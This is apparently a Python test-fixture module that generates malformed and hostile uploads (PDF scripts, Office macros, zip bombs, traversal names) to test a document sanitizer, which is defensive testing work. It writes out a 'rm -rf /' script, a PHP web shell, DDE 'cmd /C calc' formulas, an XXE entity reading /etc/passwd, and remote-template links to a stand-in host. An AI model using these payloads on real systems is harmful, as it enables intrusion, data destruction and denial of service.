"""Odd files that people, and attackers, hand in; made here, so that no dangerous file lies in the project.

Each is refused with a fault, or taken and made harmless: then the words of `gone` are nowhere in what is kept.
"""

import gzip
import io
import re
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from prevention.resources.rules import Fault
from tests.resources import samples

EVIL = b"evil-mark"
_REL = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'


@dataclass(frozen=True, kw_only=True, slots=True)
class Odd:
    """One odd file: its name as handed in, its content, and the fault it has or None for made harmless."""

    what: str
    content: Callable[[], bytes]
    fault: Fault | None
    file_name: str = "lezione.pdf"


def _pdf(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    written = io.BytesIO()
    pdf.save(written, static_id=True, **options)
    return written.getvalue()


def pdf_with_script() -> bytes:
    """Write a PDF that runs a script when it is opened."""
    return _pdf(open_script)


def signed_pdf(change: Callable[[pikepdf.Pdf], None] = lambda _pdf: None) -> bytes:
    """Write a PDF with a signature field whose signature (a made-up one) covers every byte but itself."""

    def sign(pdf: pikepdf.Pdf) -> None:
        change(pdf)
        gap = 10**9
        signature = Dictionary(
            Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, gap, gap, gap]), Contents=b"\x30" * 64
        )
        field = Dictionary(FT=Name.Sig, T="Firma", V=pdf.make_indirect(signature))
        pdf.Root.AcroForm = Dictionary(SigFlags=3, Fields=Array([pdf.make_indirect(field)]))

    content = _pdf(sign, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    found = re.search(rb"/Contents (<[0-9a-f]+>|\(0+\))", content)
    assert found is not None
    begin, end = found.span(1)
    for number in (begin, end, len(content) - end):
        content = content.replace(b" 1000000000", b" %010d" % number, 1)
    return content


def _script(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String(EVIL.decode()))


def open_script(pdf: pikepdf.Pdf) -> None:
    """Let a PDF run a script when it is opened."""
    pdf.Root.OpenAction = _script(pdf)


def _pdf_named_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", pdf.make_indirect(_script(pdf))])))


def _pdf_page_trigger(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_script(pdf))


def _pdf_launch_link(pdf: pikepdf.Pdf) -> None:
    launch = Dictionary(S=Name.Launch, F=pikepdf.String(EVIL.decode()))
    chain = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([launch]))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=chain)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _pdf_attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = pikepdf.AttachedFileSpec(
        pdf, EVIL * 3, filename="evil.exe", description="", mime_type="", creation_date="", mod_date=""
    )
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), Contents=EVIL.decode())
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _pdf_xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(EVIL))


def _pdf_script_address(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=pikepdf.String("javascript:" + EVIL.decode()))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _pdf_bomb(pdf: pikepdf.Pdf) -> None:
    twice = zlib.compress(zlib.compress(bytes(50_000_000)))
    stream = pdf.make_stream(b"")
    stream.write(twice, filter=Array([Name.FlateDecode, Name.FlateDecode]), decode_parms=None)
    pdf.pages[0].obj.Contents = stream


def _pdf_giant_picture(pdf: pikepdf.Pdf) -> None:
    picture = pdf.make_stream(
        b"x", Type=Name.XObject, Subtype=Name.Image, Width=50_000, Height=50_000, BitsPerComponent=1,
        ColorSpace=Name.DeviceGray,
    )  # fmt: skip
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=picture))


def _locked_pdf() -> bytes:
    return _pdf(lambda _pdf: None, encryption=pikepdf.Encryption(owner="o", user="u"))


def _word(**parts: bytes | str) -> bytes:
    named = {name.replace("__", "/"): part for name, part in parts.items()}
    return samples.zip_of(
        samples.WORD | {name: part.encode() if isinstance(part, str) else part for name, part in named.items()}
    )


def _with(extra: dict[str, bytes | str]) -> Callable[[], bytes]:
    parts = {name: part.encode() if isinstance(part, str) else part for name, part in extra.items()}
    return lambda: samples.zip_of(samples.WORD | parts)


def _relationship(kind: str, target: str) -> dict[str, bytes | str]:
    one = f'<Relationship Id="r1" Type="{samples.RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": _REL.format(one)}


def _document(inside: str) -> dict[str, bytes | str]:
    return {"word/document.xml": f'<w:document xmlns:w="http://x"><w:body>{inside}</w:body></w:document>'}


def _open_text(content: str, **more: str) -> Callable[[], bytes]:
    names = 'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:d" xmlns:text="urn:t" xmlns:script="urn:s"'
    parts = {"content.xml": f"<office {names}>{content}</office>", **more}
    return lambda: samples.zip_of(samples.OPEN_TEXT | {name: part.encode() for name, part in parts.items()})


def _lying_zip() -> bytes:
    """Declare a small size over a large part."""
    content = bytearray(samples.zip_of(samples.WORD | {"word/media/a.bin": bytes(20_000_000)}))
    place = content.rindex(b"word/media/a.bin") - 46
    content[place + 24 : place + 28] = struct.pack("<L", 100)
    return bytes(content)


def _overlapping_zip() -> bytes:
    """Let two names in the table of contents point at the same bytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in samples.WORD.items():
            archive.writestr(name, part)
        archive.writestr("word/a.bin", bytes(5000))
        twin = zipfile.ZipInfo("word/b.bin")
        first = archive.getinfo("word/a.bin")
        for name in ("compress_type", "compress_size", "file_size", "CRC", "header_offset"):
            setattr(twin, name, getattr(first, name))
        archive.filelist.append(twin)
        archive.NameToInfo["word/b.bin"] = twin
    return packed.getvalue()


def _nested(depth: int) -> bytes:
    content = samples.DOCX
    for _ in range(depth):
        content = samples.zip_of(samples.WORD | {"word/embeddings/a.docx": content})
    return content


def _between_parts() -> bytes:
    """Hide a program between the parts, where no table points at."""
    content = samples.zip_of(samples.WORD)
    table = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    moved = bytearray(content[:table] + EVIL * 9 + content[table:])
    moved[end + len(EVIL) * 9 + 16 : end + len(EVIL) * 9 + 20] = struct.pack("<L", table + len(EVIL) * 9)
    return bytes(moved)


def _giant_png(width: int = 50_000, height: int = 50_000) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    header = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _photo_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = EVIL.decode()
    exif[0x8825] = {1: "N", 2: (45.0, 8.0, 0.0)}
    return samples.picture_of("JPEG", exif=exif.tobytes(), comment=EVIL)


def _docm() -> bytes:
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/'
        'document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    return samples.zip_of(samples.WORD | {"[Content_Types].xml": types.encode()})


def _archive(kind: str) -> bytes:
    """Pack a program into an archive of another kind than ZIP."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode=kind) as archive:  # type: ignore[call-overload]  # any of its modes
        entry = tarfile.TarInfo("lesson.exe")
        entry.size = len(samples.PROGRAM)
        archive.addfile(entry, io.BytesIO(samples.PROGRAM))
    return packed.getvalue()


def _zip_with_link() -> bytes:
    """Let a part of a document be a symbolic link out of it."""
    packed = io.BytesIO(samples.zip_of(samples.WORD))
    link = zipfile.ZipInfo("word/link.txt")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr(link, "../../../etc/passwd")
    return packed.getvalue()


def _local_name_differs() -> bytes:
    """Call a part otherwise at its own place than in the table of contents."""
    content = samples.zip_of(samples.WORD | {"word/a.txt": b"plain"})
    place = content.index(b"word/a.txt")
    return content[:place] + b"../../x.sh" + content[place + 10 :]


def _png_with(chunk: bytes, data: bytes) -> bytes:
    """Put a chunk of its own before the pixels of a picture."""
    place = samples.PNG.index(b"IDAT") - 4
    made = struct.pack(">L", len(data)) + chunk + data + struct.pack(">L", zlib.crc32(chunk + data))
    return samples.PNG[:place] + made + samples.PNG[place:]


def _frames(kind: str, number: int) -> bytes:
    """Draw a picture of many frames, each different."""
    frames = [Image.new("RGB", (8, 8), (place % 255, place // 255, 0)) for place in range(number)]
    drawn = io.BytesIO()
    frames[0].save(drawn, kind, save_all=True, append_images=frames[1:], duration=10)
    return drawn.getvalue()


def _pdf_action(**action: Any) -> Callable[[], bytes]:
    """Let a PDF do something when it is opened, and when its first link is followed."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(**action)
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
        pdf.Root.Outlines = Dictionary(First=pdf.make_indirect(Dictionary(Title="1", A=Dictionary(**action))))

    return lambda: _pdf(change)


def _pdf_field_script(pdf: pikepdf.Pdf) -> None:
    key = Dictionary(
        FT=Name.Tx, T="a", AA=Dictionary(K=_script(pdf)), Kids=Array([Dictionary(AA=Dictionary(F=_script(pdf)))])
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(key)]))


def _pdf_hidden_name() -> bytes:
    """Write the names of a script's keys so that who looks for them as text finds nothing."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</S/J#61vaScript/#4aS(" + EVIL + b")>>",
    )
    written, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(written))
        written += b"%d 0 obj%sendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(written)
    return written + b"xref\n0 5\n0000000000 65535 f \n" + table + end


def _pdf_deep(pdf: pikepdf.Pdf) -> None:
    inner = Array([])
    for _ in range(400):
        inner = Array([inner])
    pdf.Root.Deep = inner


def _pdf_other_content(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Contents = pdf.make_stream(b"", F=pikepdf.String(EVIL.decode()))


def _pdf_many_pages() -> bytes:
    pdf = pikepdf.new()
    for _ in range(5001):
        pdf.add_blank_page()
    return samples.pdf_of(pdf)


def _older_revision() -> bytes:
    """Hide words in a revision that a newer one replaces."""
    first = _pdf(lambda pdf: setattr(pdf.Root, "Secret", pikepdf.String(EVIL.decode())), compress_streams=False)
    root = first.index(b"/Secret")
    number = int(
        first[: first.index(b" 0 obj", first.rindex(b"endobj", 0, root) if b"endobj" in first[:root] else 0)].split()[
            -1
        ]
    )
    place = len(first)
    again = b"%d 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" % number
    before = first[first.rindex(b"startxref") + 9 :].split()[0]
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer << /Size 20 /Root %d 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        number, place, number, before, place + len(again),
    )  # fmt: skip
    return first + again + table


def _sheet(formula: str) -> bytes:
    """Write a workbook with one formula."""
    cell = f'<worksheet xmlns="http://x"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'
    return samples.zip_of(
        {"[Content_Types].xml": samples.TYPES, "xl/workbook.xml": b"<workbook/>", "xl/worksheets/s.xml": cell.encode()}
    )


def _slides(kind: str, target: str) -> bytes:
    """Write slides with a relationship to somewhere else."""
    one = f'<Relationship Id="r1" Type="{samples.RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/>'
    return samples.zip_of(
        {
            "[Content_Types].xml": samples.TYPES,
            "ppt/presentation.xml": b"<p/>",
            "ppt/slides/_rels/slide1.xml.rels": _REL.format(one).encode(),
        }
    )


# The test file of the virus scanners' makers, in two halves, so that no scanner stops at this file.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_MP4 = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(400)
_WEBM = b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\x82\x84webm" + bytes(400)

_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
_LEGACY_GIF = b"GIF89a" + EVIL

FILES = (
    Odd(what="no bytes at all", content=lambda: b"", fault=Fault.EMPTY),
    Odd(what="a web page named .pdf", content=lambda: samples.HTML, fault=Fault.WEB_PAGE),
    Odd(what="a web page after blank lines", content=lambda: b"\n\n  " + samples.HTML, fault=Fault.OTHER),
    Odd(what="a web page, then a PDF", content=lambda: samples.HTML + samples.PDF, fault=Fault.WEB_PAGE),
    Odd(what="words, then a PDF", content=lambda: b"hello\n" + samples.PDF, fault=Fault.OTHER),
    Odd(what="SVG with script", content=lambda: samples.SVG, fault=Fault.DRAWING, file_name="a.png"),
    Odd(what="a program", content=lambda: samples.PROGRAM, fault=Fault.PROGRAM),
    Odd(what="a script of the shell", content=lambda: b"#!/bin/sh\nrm -rf /\n", fault=Fault.OTHER),
    Odd(what="an archive named .docx", content=lambda: samples.ZIP, fault=Fault.ARCHIVE, file_name="a.docx"),
    Odd(what="an old Word file", content=lambda: samples.OLD_WORD, fault=Fault.OLD_OFFICE, file_name="a.doc"),
    Odd(what="GIF and script in one", content=lambda: b"GIF89a/*" + EVIL + b"*/=1;alert(1)", fault=Fault.MEDIA),
    Odd(what="bare text", content=lambda: samples.TEXT, fault=Fault.OTHER),
    # PDF
    Odd(what="PDF that runs a script", content=lambda: _pdf(open_script), fault=None),
    Odd(what="PDF with a named script", content=lambda: _pdf(_pdf_named_script), fault=None),
    Odd(what="PDF with a trigger on its page", content=lambda: _pdf(_pdf_page_trigger), fault=None),
    Odd(what="PDF that launches a program", content=lambda: _pdf(_pdf_launch_link), fault=None),
    Odd(what="PDF with attached files", content=lambda: _pdf(_pdf_attached), fault=None),
    Odd(what="PDF with an XFA form", content=lambda: _pdf(_pdf_xfa), fault=None),
    Odd(what="PDF with a script as address", content=lambda: _pdf(_pdf_script_address), fault=None),
    Odd(what="PDF packed twice", content=lambda: _pdf(_pdf_bomb, compress_streams=False), fault=Fault.BOMB),
    Odd(what="PDF with a giant picture", content=lambda: _pdf(_pdf_giant_picture), fault=Fault.BOMB),
    Odd(what="PDF with a password", content=_locked_pdf, fault=Fault.LOCKED),
    Odd(what="PDF cut short", content=lambda: samples.PDF[:300], fault=Fault.DAMAGED),
    Odd(
        what="PDF, then an archive",
        content=lambda: samples.PDF + samples.zip_of({"a": EVIL * 400}),
        fault=None,
    ),
    Odd(what="PDF, then a short web page", content=lambda: samples.PDF + b"<script>" + EVIL, fault=None),
    Odd(what="only the first words of a PDF", content=lambda: b"%PDF-1.7\n" + samples.HTML, fault=Fault.DAMAGED),
    # Pictures
    Odd(what="PNG, then a web page", content=lambda: samples.PNG + EVIL, fault=None, file_name="a.html"),
    Odd(
        what="JPEG, then an archive",
        content=lambda: samples.picture_of("JPEG") + samples.zip_of({"a": EVIL}),
        fault=None,
    ),
    Odd(what="photo with its place and words", content=_photo_with_place, fault=None, file_name="a.jpg"),
    Odd(what="picture of 50,000 by 50,000", content=_giant_png, fault=Fault.BOMB, file_name="a.png"),
    Odd(what="picture cut short", content=lambda: samples.picture_of("JPEG", (300, 300))[:700], fault=Fault.DAMAGED),
    Odd(what="only the first bytes of a PNG", content=lambda: samples.PNG[:8] + EVIL, fault=Fault.DAMAGED),
    # Office
    Odd(what="macros", content=lambda: samples.DOCX_WITH_MACROS, fault=Fault.MACROS, file_name="a.docx"),
    Odd(what=".docm renamed", content=_docm, fault=Fault.MACROS, file_name="a.docx"),
    Odd(what="zip bomb", content=lambda: samples.DOCX_BOMB, fault=Fault.BOMB),
    Odd(what="zip that lies about sizes", content=_lying_zip, fault=Fault.DAMAGED),
    Odd(what="zip whose parts overlap", content=_overlapping_zip, fault=Fault.BOMB),
    Odd(what="document in document in …", content=lambda: _nested(4), fault=Fault.BOMB),
    Odd(what="document with a password", content=lambda: samples.DOCX_LOCKED, fault=Fault.LOCKED),
    Odd(what="document cut short", content=lambda: samples.DOCX[:200], fault=Fault.ARCHIVE),
    Odd(what="a part that climbs out", content=_with({"../../etc/cron.d/x": EVIL}), fault=Fault.DAMAGED),
    Odd(what="a part with a drive", content=_with({"C:evil.txt": EVIL}), fault=Fault.DAMAGED),
    Odd(what="a program as a part", content=_with({"word/run.exe": EVIL}), fault=Fault.PROGRAM),
    Odd(what="a program named as picture", content=_with({"word/media/a.png": samples.PROGRAM}), fault=Fault.PROGRAM),
    Odd(what="an archive as a part", content=_with({"word/media/a.png": samples.ZIP}), fault=Fault.ARCHIVE),
    Odd(
        what="an OLE object", content=_with({"word/embeddings/oleObject1.bin": samples.OLD_WORD}), fault=Fault.EMBEDDED
    ),
    Odd(what="ActiveX", content=_with({"word/activeX/activeX1.xml": "<x/>"}), fault=Fault.MACROS),
    Odd(what="XXE in a document", content=_with({"word/document.xml": _ENTITY}), fault=Fault.EXTERNAL),
    Odd(what="billion laughs in a document", content=_with({"docProps/core.xml": _LAUGHS}), fault=Fault.EXTERNAL),
    Odd(
        what="template from elsewhere",
        content=_with(_relationship("attachedTemplate", "http://e.example/t.dotm")),
        fault=Fault.EXTERNAL,
    ),
    Odd(what="linked picture", content=_with(_relationship("image", "http://e.example/i.png")), fault=Fault.EXTERNAL),
    Odd(
        what="hyperlink to a handler of the system",
        content=_with(_relationship("hyperlink", "ms-msdt:/id")),
        fault=Fault.EXTERNAL,
    ),
    Odd(
        what="web page as a chunk",
        content=_with(
            {
                "word/_rels/document.xml.rels": _REL.format(
                    f'<Relationship Id="r" Type="{samples.RELATIONSHIPS}/aFChunk" Target="a.mht"/>'
                )
            }
        ),
        fault=Fault.WEB_PAGE,
    ),
    Odd(
        what="DDE in a field spread over runs",
        content=_with(_document("<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>")),
        fault=Fault.EXTERNAL,
    ),
    Odd(
        what="drawing with script inside a document",
        content=_with({"word/media/a.svg": samples.SVG}),
        fault=Fault.DRAWING,
    ),
    Odd(what="giant picture inside a document", content=_with({"word/media/a.png": _giant_png()}), fault=Fault.BOMB),
    Odd(what="broken XML", content=_with({"word/document.xml": "<a><b></a>"}), fault=Fault.DAMAGED),
    Odd(what="a program between the parts", content=_between_parts, fault=None, file_name="a.docx"),
    Odd(what="an archive behind the document", content=lambda: samples.DOCX + EVIL, fault=None, file_name="a.docx"),
    Odd(
        what="event in an OpenDocument text",
        content=_open_text('<script:event-listener script:event-name="dom:load"/>'),
        fault=Fault.MACROS,
    ),
    Odd(what="OpenDocument with Basic", content=_open_text("", **{"Basic/Standard/a.xml": "<x/>"}), fault=Fault.MACROS),
    Odd(
        what="OpenDocument picture from elsewhere",
        content=_open_text('<draw:image xlink:href="http://e.example/i.png"/>'),
        fault=Fault.EXTERNAL,
    ),
    Odd(
        what="OpenDocument link that runs a macro",
        content=_open_text('<text:a xlink:href="vnd.sun.star.script:evil"/>'),
        fault=Fault.MACROS,
    ),
    Odd(
        what="OpenDocument with a password",
        content=_open_text("", **{"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
        fault=Fault.LOCKED,
    ),
    # Archives and other kinds, whatever they are called
    Odd(what="tar", content=lambda: _archive("w"), fault=Fault.ARCHIVE, file_name="a.pdf"),
    Odd(what="tar.gz", content=lambda: _archive("w:gz"), fault=Fault.ARCHIVE, file_name="a.docx"),
    Odd(what="tar.xz", content=lambda: _archive("w:xz"), fault=Fault.ARCHIVE),
    Odd(what="tar.bz2", content=lambda: _archive("w:bz2"), fault=Fault.ARCHIVE),
    Odd(what="7z", content=lambda: b"7z\xbc\xaf\x27\x1c\0\4" + EVIL * 9, fault=Fault.ARCHIVE),
    Odd(what="RAR", content=lambda: b"Rar!\x1a\x07\x01\0" + EVIL * 9, fault=Fault.ARCHIVE),
    Odd(what="cabinet", content=lambda: b"MSCF" + bytes(60), fault=Fault.ARCHIVE),
    Odd(what="gzip of a gigabyte", content=lambda: gzip.compress(bytes(10_000_000)), fault=Fault.ARCHIVE),
    Odd(what="packed SVG", content=lambda: gzip.compress(samples.SVG), fault=Fault.ARCHIVE, file_name="a.svgz"),
    Odd(what="a program of Java", content=lambda: samples.zip_of({"META-INF/MANIFEST.MF": b"x"}), fault=Fault.ARCHIVE),
    Odd(what="the scanners' test file", content=lambda: EICAR, fault=Fault.OTHER, file_name="eicar.com"),
    Odd(what="the scanners' test file, packed", content=lambda: samples.zip_of({"e": EICAR}), fault=Fault.ARCHIVE),
    Odd(what="rich text", content=lambda: b"{\\rtf1{\\object\\objdata 0}}", fault=Fault.OLD_OFFICE, file_name="a.doc"),
    Odd(what="a program of Linux", content=lambda: b"\x7fELF\x02\x01\x01" + bytes(60), fault=Fault.OTHER),
    Odd(what="a shortcut", content=lambda: b"[InternetShortcut]\r\nURL=file:///c:/x\r\n", fault=Fault.OTHER),
    Odd(what="a web archive", content=lambda: b"MIME-Version: 1.0\r\n\r\n" + samples.HTML, fault=Fault.OTHER),
    Odd(what="a web page in UTF-16", content=lambda: samples.HTML.decode().encode("utf-16"), fault=Fault.OTHER),
    Odd(what="a page of the server", content=lambda: b"<?php system($_GET['c']);", fault=Fault.OTHER),
    Odd(what="an application for the desktop", content=lambda: b"<html><hta:application>", fault=Fault.WEB_PAGE),
    Odd(what="a style sheet of XML", content=lambda: b'<?xml version="1.0"?><a/>', fault=Fault.WEB_PAGE),
    Odd(what="PostScript", content=lambda: b"%!PS-Adobe-3.0\n(x) run", fault=Fault.OTHER),
    Odd(what="a table with formulas", content=lambda: b"a,b\n=cmd|' /C calc'!A0,2\n", fault=Fault.OTHER),
    # Films and pictures of other kinds
    Odd(what="MP4", content=lambda: _MP4, fault=Fault.MEDIA, file_name="a.mp4"),
    Odd(what="WebM named .pdf", content=lambda: _WEBM, fault=Fault.MEDIA),
    Odd(what="a web page named .mp4", content=lambda: samples.HTML, fault=Fault.WEB_PAGE, file_name="a.mp4"),
    Odd(what="MP4, then a web page", content=lambda: _MP4 + samples.HTML, fault=Fault.MEDIA, file_name="a.webm"),
    Odd(what="GIF of 10,000 frames", content=lambda: _frames("GIF", 10_000), fault=Fault.MEDIA),
    Odd(what="PNG of 300 frames", content=lambda: _frames("PNG", 300), fault=None, file_name="a.png"),
    Odd(what="WebP of 300 frames", content=lambda: _frames("WEBP", 300), fault=None, file_name="a.webp"),
    Odd(
        what="PNG whose profile of colours is a bomb",
        content=lambda: _png_with(b"iCCP", b"x\0\0" + zlib.compress(bytes(100_000_000), 9)),
        fault=Fault.DAMAGED,
    ),
    Odd(
        what="PNG whose words are a bomb",
        content=lambda: _png_with(b"zTXt", b"x\0\0" + zlib.compress(bytes(100_000_000), 9)),
        fault=Fault.DAMAGED,
    ),
    Odd(what="PNG with words", content=lambda: _png_with(b"tEXt", b"a\0" + EVIL), fault=None),
    Odd(
        what="JPEG that is a program of the browser",
        content=lambda: samples.picture_of("JPEG", comment=b"*/" + EVIL),
        fault=None,
    ),
    # More of PDF
    Odd(what="PDF that goes to another file", content=_pdf_action(S=Name.GoToR, F=EVIL.decode(), D=0), fault=None),
    Odd(what="PDF that goes into a file within", content=_pdf_action(S=Name.GoToE, F=EVIL.decode()), fault=None),
    Odd(what="PDF that sends its form", content=_pdf_action(S=Name.SubmitForm, F=EVIL.decode()), fault=None),
    Odd(what="PDF that takes data in", content=_pdf_action(S=Name.ImportData, F=EVIL.decode()), fault=None),
    Odd(what="PDF that plays", content=_pdf_action(S=Name.Rendition, JS=EVIL.decode()), fault=None),
    Odd(what="PDF that opens a file", content=_pdf_action(S=Name.URI, URI="file:///" + EVIL.decode()), fault=None),
    Odd(what="PDF whose fields run scripts", content=lambda: _pdf(_pdf_field_script), fault=None),
    Odd(what="PDF with a name in disguise", content=_pdf_hidden_name, fault=None),
    Odd(what="PDF whose content lies elsewhere", content=lambda: _pdf(_pdf_other_content), fault=None),
    Odd(what="PDF with an older revision below", content=_older_revision, fault=None),
    Odd(what="PDF nested 400 deep", content=lambda: _pdf(_pdf_deep), fault=None),
    Odd(what="PDF of 5,001 pages", content=_pdf_many_pages, fault=Fault.BOMB),
    # More of office documents
    Odd(what="gzip as a part", content=_with({"word/a.dat": gzip.compress(bytes(9_000))}), fault=Fault.ARCHIVE),
    Odd(what="7z as a picture", content=_with({"word/media/a.png": b"7z\xbc\xaf\x27\x1c" + EVIL}), fault=Fault.ARCHIVE),
    Odd(
        what="a packed drawing that is a bomb",
        content=_with({"word/media/a.emz": gzip.compress(bytes(90_000_000))}),
        fault=Fault.BOMB,
    ),
    Odd(what="a link of the file system as a part", content=_zip_with_link, fault=None, file_name="a.docx"),
    Odd(what="a part with two names", content=_local_name_differs, fault=Fault.DAMAGED),
    Odd(
        what="slides with a film from elsewhere",
        content=lambda: _slides("video", "http://e.example/f.mp4"),
        fault=Fault.EXTERNAL,
    ),
    Odd(
        what="slides that start a program",
        content=lambda: _slides("hyperlink", "file:///c:/calc.exe"),
        fault=Fault.EXTERNAL,
    ),
    Odd(
        what="slides that ask another machine",
        content=lambda: _slides("hyperlink", "\\\\e.example\\x"),
        fault=Fault.EXTERNAL,
    ),
    Odd(
        what="a sheet that asks a server",
        content=lambda: _sheet("_xlfn.WEBSERVICE(A1)"),
        fault=Fault.EXTERNAL,
        file_name="a.xlsx",
    ),
    Odd(
        what="a sheet that runs a command",
        content=lambda: _sheet("cmd|' /C calc'!A0"),
        fault=Fault.EXTERNAL,
        file_name="a.xlsx",
    ),
    Odd(
        what="a sheet that loads a picture",
        content=lambda: _sheet("IMAGE(A1)"),
        fault=Fault.EXTERNAL,
        file_name="a.xlsx",
    ),
    Odd(
        what="an OpenDocument sheet that asks another program",
        content=_open_text('<text:p text:formula="of:=DDE(&quot;soffice&quot;;A1)"/>'),
        fault=Fault.EXTERNAL,
    ),
    Odd(
        what="XML nested 2,000 deep",
        content=_with({"word/document.xml": "<a>" * 2000 + "</a>" * 2000}),
        fault=Fault.BOMB,
    ),
    # Names
    Odd(what="a name of 5,000 letters", content=lambda: samples.PDF, fault=None, file_name="a" * 5000 + ".pdf"),
    Odd(what="a name with a null byte", content=lambda: samples.PDF, fault=None, file_name="a.pdf\0.exe"),
    Odd(what="a name that is a device", content=lambda: samples.PDF, fault=None, file_name="CON.pdf"),
    Odd(what="a name with a stream", content=lambda: samples.PDF, fault=None, file_name="a.pdf:evil.exe"),
    Odd(what="two extensions", content=lambda: samples.PDF, fault=None, file_name="lezione.pdf.exe"),
    Odd(what="an extension far away", content=lambda: samples.PDF, fault=None, file_name="a.pdf" + " " * 200 + ".exe"),
    Odd(what="a name of dots", content=lambda: samples.PDF, fault=None, file_name="...."),
    Odd(what="no name", content=lambda: samples.PDF, fault=None, file_name="\u202e\u2066"),
    Odd(what="a name that climbs", content=lambda: samples.PDF, fault=None, file_name="../../etc/cron.d/x.pdf"),
    Odd(what="a name read backwards", content=lambda: samples.PDF, fault=None, file_name="lesson\u202efdp.exe"),
    Odd(what="a name of emoji", content=lambda: samples.PDF, fault=None, file_name="🎓👩\u200d🏫.pdf"),
    Odd(what="a name with a line end", content=lambda: samples.PDF, fault=None, file_name="a\r\nSet-Cookie: x.pdf"),
)
